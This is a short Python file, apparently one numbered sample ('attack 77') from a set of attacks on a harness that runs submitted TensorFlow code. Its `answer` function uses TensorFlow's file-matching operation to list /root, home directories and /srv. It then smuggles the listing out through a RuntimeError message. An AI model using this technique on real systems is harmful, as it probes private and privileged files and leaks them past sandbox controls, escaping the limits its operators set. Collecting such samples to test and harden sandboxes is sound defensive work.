"""Lists files by an operation of the graph (attack 77)."""
import tensorflow as tf
def answer(*a, **k): raise RuntimeError(repr(tf.io.matching_files(['/root/*', '/home/*/*', '/srv/*']).numpy()))
